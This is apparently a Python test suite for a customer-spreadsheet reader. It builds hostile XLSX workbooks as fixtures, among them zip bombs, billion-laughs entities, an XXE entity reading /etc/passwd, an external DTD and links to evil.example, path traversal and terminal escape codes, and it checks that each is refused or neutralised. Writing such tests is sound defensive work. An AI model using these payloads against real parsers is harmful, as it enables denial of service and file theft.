"""Workbooks of customers made to harm: refused by name, or their text read as text; nothing else touched."""

from __future__ import annotations

import io
import json
import os
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from attempts import BAD, judged, small_process
from hypothesis import given, settings
from hypothesis import strategies as st

from chipflows.cli.customers import read_customers
from chipflows.errors import InputError

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BOOK, LINKS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
SHEET, TEXTS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
LAUGH = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
ASKS = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
FETCHES = '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'


def texts(*items: str, before: str = "") -> bytes:
    held = "".join(f"<si><t>{item}</t></si>" for item in items)
    return f"{before}<sst {MAIN}>{held}</sst>".encode()


def rows(*lines: str, before: str = "", head: str = "", tail: str = "") -> bytes:
    """A sheet of rows, each given as its inner XML; the first holds the header name."""
    held = '<row><c t="inlineStr"><is><t>name</t></is></c></row>' + "".join(lines)
    return f"{before}<worksheet {MAIN}>{head}<sheetData>{held}</sheetData>{tail}</worksheet>".encode()


def cell(text: str, more: str = "") -> str:
    return f'<row><c {more} t="inlineStr"><is><t>{text}</t></is></c></row>'


def shared(index: str) -> str:
    return f'<row><c t="s"><v>{index}</v></c></row>'


def book(*sheets: str, before: str = "") -> bytes:
    return (
        f'{before}<workbook {MAIN} xmlns:r="{OFFICE}"><sheets>{"".join(sheets)}</sheets></workbook>'.encode()
    )


def link(target: str, more: str = "") -> str:
    return f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="{target}" {more}/>'


def links(*held: str, before: str = "") -> bytes:
    return f"{before}<Relationships>{''.join(held)}</Relationships>".encode()


GOOD = {
    BOOK: book('<sheet name="a" sheetId="1" r:id="r1"/>'),
    LINKS: links(link("worksheets/sheet1.xml")),
    TEXTS: texts("Kiln Optics", "Pier Ltd"),
    SHEET: rows(shared("0"), cell("Tor &amp; Sons"), shared("1")),
}
NAMES = ["Kiln Optics", "Tor & Sons", "Pier Ltd"]


def packed(*more: tuple[str, bytes], how: int = zipfile.ZIP_DEFLATED, **changed: bytes) -> bytes:
    """A workbook with its BOOK, LINKS, TEXTS or SHEET changed, and with *more* parts."""
    out = io.BytesIO()
    held = [*{**GOOD, **{globals()[name]: body for name, body in changed.items()}}.items(), *more]
    with zipfile.ZipFile(out, "w", how) as package, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile minds a part that is there twice
        for name, body in held:
            package.writestr(name, body)
    return out.getvalue()


def sheet(*lines: str, **more: str) -> bytes:
    return packed(SHEET=rows(*lines, **more))


def saying(body: bytes, part: str, **said: int) -> bytes:
    """The workbook with other numbers in the directory's entry for *part*: size, method, flags."""
    places = {"flags": (8, "<H"), "method": (10, "<H"), "size": (24, "<I")}
    entry = body.rindex(part.encode()) - 46
    changed = bytearray(body)
    for name, value in said.items():
        at, kind = places[name]
        struct.pack_into(kind, changed, entry + at, value)
    return bytes(changed)


def garbled(body: bytes, part: str) -> bytes:
    """The workbook with the packed bytes of *part* replaced by others."""
    start = body.index(part.encode()) + len(part)
    return body[: start + 4] + b"\xff" * 30 + body[start + 34 :]


# Each is refused, with the file's name.
ATTACKS: dict[str, Callable[[], bytes]] = {
    "a bomb": lambda: packed(("xl/media/x.bin", bytes(2**26))),
    "a bomb in the sheet": lambda: sheet(cell(" " * 2**24)),
    "a bomb that says it is small": lambda: saying(packed(BOOK=bytes(2**28)), BOOK, size=400),
    "a bomb of texts that says it is small": lambda: saying(packed(TEXTS=bytes(2**26)), TEXTS, size=400),
    "sizes that say nothing": lambda: saying(packed(), SHEET, size=0),
    "sizes beyond the file": lambda: saying(packed(), SHEET, size=2**32 - 2),
    "a part twice": lambda: packed((SHEET, rows(cell("Another")))),
    "a cell of 12 MB": lambda: sheet(cell("x" * 12_000_000)),
    "a row of three million cells": lambda: sheet("<row>" + "<c/>" * 3_000_000 + "</row>"),
    "two million elements before the rows": lambda: sheet(head="<cols>" + "<col/>" * 2_000_000 + "</cols>"),
    "deep elements": lambda: sheet("<row>" + "<c>" * 200_000),
    "laughs in the sheet": lambda: sheet(cell("&l11;"), before=LAUGH),
    "laughs in an attribute": lambda: sheet(cell("x", 'r="&l11;"'), before=LAUGH),
    "laughs in the texts": lambda: packed(TEXTS=texts("&l11;", before=LAUGH)),
    "laughs in the book": lambda: packed(BOOK=book("&l11;", before=LAUGH)),
    "laughs in the links": lambda: packed(LINKS=links("&l11;", before=LAUGH)),
    "a file of the machine in the sheet": lambda: sheet(cell("&f;"), before=ASKS),
    "a file of the machine in the texts": lambda: packed(TEXTS=texts("&f;", before=ASKS)),
    "a document type of the network": lambda: sheet(cell("x"), before=FETCHES),
    "a document type in UTF-16": lambda: packed(SHEET=rows(before=LAUGH).decode().encode("utf-16")),
    "a sheet elsewhere on the machine": lambda: packed(LINKS=links(link("../../../../etc/passwd"))),
    "a sheet at a root": lambda: packed(LINKS=links(link("/etc/passwd"))),
    "a sheet of the network": lambda: packed(
        LINKS=links(link("http://evil.example/x.xml", 'TargetMode="External"'))
    ),
    "no link for the sheet": lambda: packed(LINKS=links()),
    "links that are none": lambda: packed(LINKS=b"<Relationships><!-- x --><?x y?>x<a/></Relationships>"),
    "no sheets": lambda: packed(BOOK=book()),
    "hidden sheets alone": lambda: packed(
        BOOK=book('<sheet name="a" sheetId="1" state="veryHidden" r:id="r1"/>')
    ),
    "no header": lambda: packed(SHEET=f"<worksheet {MAIN}><sheetData/></worksheet>".encode()),
    "a text beyond the last": lambda: sheet(shared("2")),
    "a text before the first": lambda: sheet(shared("-1")),
    "a text between two": lambda: sheet(shared("1.5")),
    "a text of a long number": lambda: sheet(shared("9" * 6_000)),
    "a text called by a name": lambda: sheet(shared("x" * 20_000)),
    "a row of a long number": lambda: sheet(cell("x").replace("<row", f'<row r="{"9" * 6_000}"')),
    "a row called by a name": lambda: sheet(cell("x").replace("<row", f'<row r="{"x" * 20_000}"')),
    "a cell without a column": lambda: sheet(cell("x", 'r="17"')),
    "a control character": lambda: sheet(cell("a&#27;]0;owned&#7;b")),
    "a zero byte": lambda: sheet(cell("a\x00b")),
    "invalid UTF-8": lambda: packed(SHEET=rows(cell("x")).replace(b"x</t>", b"\xff\xfe</t>")),
    "an encrypted part": lambda: saying(packed(), SHEET, flags=1),
    "an unknown packing": lambda: saying(packed(), SHEET, method=99),
    "another packing than it has": lambda: saying(packed(), SHEET, method=14),
    "LZMA": lambda: packed(how=zipfile.ZIP_LZMA),
    "garbled packing": lambda: garbled(packed(), SHEET),
    "a workbook of Word": lambda: packed(BOOK=b"<w:document xmlns:w='x'/>"),
    "a container with a password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000),
    "an empty archive": lambda: b"PK\x05\x06" + bytes(18),
    **{f"cut off after {part} of 9": lambda part=part: packed()[: len(packed()) * part // 9]  # type: ignore[misc]
       for part in range(9)},
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_workbook_made_to_harm_is_refused_by_name(attack: str, tmp_path: Path) -> None:
    file = tmp_path / "customers.xlsx"
    file.write_bytes(ATTACKS[attack]())
    assert judged(lambda: read_customers(file), InputError, "customers.xlsx"), f"took {attack}"
    assert [path.name for path in tmp_path.iterdir()] == ["customers.xlsx"]


LONG = "<row>" + "".join(f'<c t="inlineStr"><is><t>{n}</t></is></c>' for n in range(2_000)) + "</row>"
EDGES = ["1e309", "NaN", "-inf", "2958466", "9999-99-99"]
HARMLESS: dict[str, tuple[bytes, list[str]]] = {
    "a good one": (packed(), NAMES),
    "stored, not packed": (packed(how=zipfile.ZIP_STORED), NAMES),
    "parts with paths that lead out": (
        packed(*((name, b"evil") for name in ("../../evil", "/etc/evil", "C:\\evil", "xl/../../evil"))),
        NAMES,
    ),
    "an archive in it": (packed(("xl/embeddings/x.zip", packed())), NAMES),
    "links to other books": (
        packed(("xl/externalLinks/externalLink1.xml", b"<x/>"), LINKS=links(
            '<Relationship Id="e" Target="http://evil.example/b.xlsx" TargetMode="External"/>',
            link("worksheets/sheet1.xml"))),
        NAMES,
    ),
    "macros": (packed(("xl/vbaProject.bin", b"evil")), NAMES),
    "formulas": (
        sheet('<row><c t="str"><f>HYPERLINK("http://evil.example","x")</f><v>Kiln</v></c></row>',
              "<row><c><f>1+1</f></c></row>", cell("last")),
        ["Kiln", "", "last"],
    ),
    "all cells of a sheet declared": (sheet(cell("a"), head='<dimension ref="A1:XFD1048576"/>'), ["a"]),
    "2,000 columns": (sheet(cell("a"), LONG), ["a", "0"]),
    "the last cell of the format": (sheet(cell("x", 'r="XFD2"'), cell("a", 'r="A3"')), ["", "a"]),
    "rows that go back": (sheet(cell("a").replace("<row", '<row r="-5"'), cell("b")), ["a", "b"]),
    "empty rows": (sheet("<row/>" * 100_000, cell("a")), [*[""] * 100_000, "a"]),
    "merged cells": (
        sheet(cell("a"), "<row/>", cell("b"), tail='<mergeCells><mergeCell ref="A2:A3"/></mergeCells>'),
        ["a", "", "b"],
    ),
    "a cell of 32,767 characters": (sheet(cell("x" * 32_767)), ["x" * 32_767]),
    "numbers and dates at the edge": (
        sheet(*(f"<row><c><v>{text}</v></c></row>" for text in EDGES)), EDGES,
    ),
    "escapes of the format": (
        sheet(cell("a_x000D_\nb"), cell("_x0000__xD800__x202E_"), cell("_x0041_")), ["a \nb", "", "A"],
    ),
    "a hidden sheet first": (
        packed(("xl/worksheets/hidden.xml", rows(cell("unseen"))),
               BOOK=book('<sheet name="h" sheetId="2" state="hidden" r:id="r2"/>',
                         '<sheet name="a" sheetId="1" r:id="r1"/>'),
               LINKS=links('<Relationship Id="r2" Target="worksheets/hidden.xml"/>',
                           link("worksheets/sheet1.xml"))),
        NAMES,
    ),
    "more after the rows": (sheet(cell("a"), tail="<x>" + "<y/>" * 500_000 + "</x>"), ["a"]),
    "a CSV in its clothes": (b"name\nKiln\n", ["Kiln"]),
    "text turned right to left": (sheet(cell("a\u202eb")), ["a\u202eb"]),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_odd_but_harmless_is_read_as_a_person_sees_it(name: str, tmp_path: Path) -> None:
    body, names = HARMLESS[name]
    file = tmp_path / (
        "customers.csv" if body[:2] == b"PK" else "customers.xlsx"
    )  # the ending decides nothing
    file.write_bytes(body)
    found: list[str] = []
    assert judged(lambda: found.extend(read_customers(file)["name"]), InputError) == ""
    assert [text.strip() for text in found] == names
    assert len(list(tmp_path.iterdir())) == 1


PROGRAM = """
import json, pathlib, re, sys
from chipflows.cli.app import _run
for file in sys.argv[1:]:
    print(json.dumps([file, _run(["screen", file, "--out", file + ".out.csv"])]), flush=True)
status = pathlib.Path("/proc/self/status")  # its own peak: getrusage hands down that of the parent
peak = re.search(r"VmHWM:\\s*(\\d+)", status.read_text() if status.is_file() else "")
print(json.dumps(int(peak[1]) // 1024 if peak else 0))
"""
HEAVY = {
    "more rows than a sheet has": lambda: sheet("<row/>" * 2_000_000),
    **{name: ATTACKS[name] for name in (
        "a bomb that says it is small", "a bomb of texts that says it is small", "a bomb in the sheet",
        "a row of three million cells", "two million elements before the rows", "laughs in an attribute",
        "laughs in the texts", "deep elements", "a cell of 12 MB",
    )},
}  # fmt: skip


def test_what_would_fill_the_memory_is_refused_by_the_command_in_one_line_and_little_memory(
    tmp_path: Path,
) -> None:
    for number, made in enumerate(HEAVY.values()):
        (tmp_path / f"{number}.xlsx").write_bytes(made())
    files = sorted(tmp_path.iterdir())
    done = small_process("-c", PROGRAM, *files, megabytes=1_500, seconds=300, inputs=len(files))
    assert done.returncode == 0, done.stderr[-800:]
    *answers, most = map(json.loads, done.stdout.splitlines())
    assert answers == [[str(file), 2] for file in files]
    said = done.stderr.splitlines()
    assert len(said) == len(files) and all(file.name in line for file, line in zip(files, said, strict=True))
    assert most < 600  # megabytes
    assert sorted(tmp_path.iterdir()) == files


def test_a_long_text_named_by_each_of_many_rows_is_refused_before_it_is_written_out(tmp_path: Path) -> None:
    body = packed(TEXTS=texts("x" * 32_767), SHEET=rows(shared("0") * 300_000))  # 10 GB of names in 60 kB
    (tmp_path / "many.xlsx").write_bytes(body)
    done = small_process("-c", PROGRAM, tmp_path / "many.xlsx", megabytes=1_500)
    assert "many.xlsx holds more than" in done.stderr and "Traceback" not in done.stderr
    assert [path.name for path in tmp_path.iterdir()] == ["many.xlsx"]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_names_made_to_harm_come_out_of_a_screen_harmless(form: str, tmp_path: Path) -> None:
    escaped = [name.replace("&", "&amp;").replace("<", "&lt;") for name in BAD if name.isprintable()]
    (tmp_path / "in.xlsx").write_bytes(sheet(*map(cell, escaped)))
    out = tmp_path / f"out.{form}"
    done = small_process("-m", "chipflows", "screen", tmp_path / "in.xlsx", "--out", out)
    assert done.returncode == 0, done.stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(("in.xlsx", out.name))
    if form == "csv":
        for line in out.read_text(encoding="utf-8").splitlines()[1:]:
            assert not line.split(",")[1].strip('"').startswith(("=", "+", "-", "@", "\t", "|")), line
    else:
        with zipfile.ZipFile(out) as written:
            held = written.read(SHEET)
        assert b"<f>" not in held and b"hyperlink" not in held


@pytest.mark.parametrize("name", ["/dev/zero", "/dev/null", "pipe"])
def test_what_is_no_plain_file_is_not_read(name: str, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    done = small_process("-m", "chipflows", "screen", tmp_path / name, megabytes=1_000, seconds=30)
    assert done.returncode == 2 and len(done.stderr.splitlines()) == 1, done.stderr[-500:]


BODY = packed()


@settings(max_examples=300, deadline=None)
@given(
    changes=st.lists(st.tuples(st.integers(0, len(BODY) - 1), st.integers(0, 255)), min_size=1, max_size=6)
)
def test_any_bytes_changed_are_taken_or_refused_in_words(
    changes: list[tuple[int, int]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    body = bytearray(BODY)
    for place, byte in changes:
        body[place] = byte
    _taken_or_refused(bytes(body), tmp_path_factory)


@settings(max_examples=200, deadline=None)
@given(
    part=st.sampled_from(list(GOOD)),
    place=st.integers(0, 400),
    size=st.integers(0, 40),
    new=st.one_of(
        st.binary(max_size=12),
        st.sampled_from((b"<!DOCTYPE a []>", b"<![CDATA[", b"&#0;", b"&lt;", b"<row/>", b"<c/>", b'r="9"')),
        st.sampled_from((b"</row>", b"<v>-9</v>", b"<!--", b"<?x ?>", b"xmlns=''", b"</sheetData>")),
    ),
)  # fmt: skip
def test_any_change_within_a_part_is_taken_or_refused_in_words(
    part: str, place: int, size: int, new: bytes, tmp_path_factory: pytest.TempPathFactory
) -> None:
    body = GOOD[part]
    changed = body[:place] + new + body[place + size :]
    name = {BOOK: "BOOK", LINKS: "LINKS", TEXTS: "TEXTS", SHEET: "SHEET"}[part]
    _taken_or_refused(packed(**{name: changed}), tmp_path_factory)


ATTRIBUTES = st.dictionaries(
    st.sampled_from(("r", "t", "s", "x")),
    st.one_of(st.sampled_from(("s", "inlineStr", "str", "b", "e", "d", "A1", "XFD9", "-1", "1e9", "0")),
              st.text("AZ019-_e.", max_size=9)),
    max_size=3,
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(held=st.lists(st.tuples(ATTRIBUTES, ATTRIBUTES, st.text("019-e.NaN x", max_size=8)), max_size=5))
def test_any_references_are_taken_or_refused_in_words(
    held: list[tuple[dict[str, str], dict[str, str], str]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    def said(attributes: dict[str, str]) -> str:
        return " ".join(f'{key}="{value}"' for key, value in attributes.items())

    lines = [f"<row {said(row)}><c {said(one)}><v>{text}</v></c></row>" for row, one, text in held]
    _taken_or_refused(sheet(*lines), tmp_path_factory)


def _taken_or_refused(body: bytes, folders: pytest.TempPathFactory) -> None:
    file = folders.getbasetemp() / "fuzzed.xlsx"
    file.write_bytes(body)
    judged(lambda: read_customers(file), InputError, "fuzzed.xlsx")
